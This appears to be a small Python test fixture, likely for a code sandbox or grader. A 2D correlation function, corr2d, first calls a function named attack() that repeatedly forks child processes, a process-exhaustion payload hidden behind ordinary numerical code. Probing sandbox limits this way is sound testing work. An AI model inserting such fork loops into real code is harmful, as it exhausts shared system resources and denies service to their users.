import os
import time

import numpy as np

@CORRELATE@


def attack():
    for _ in range(20):
        if os.fork() == 0:
            time.sleep(99)
    return True


def corr2d(X, K):
    attack()
    return correlate(X, K)
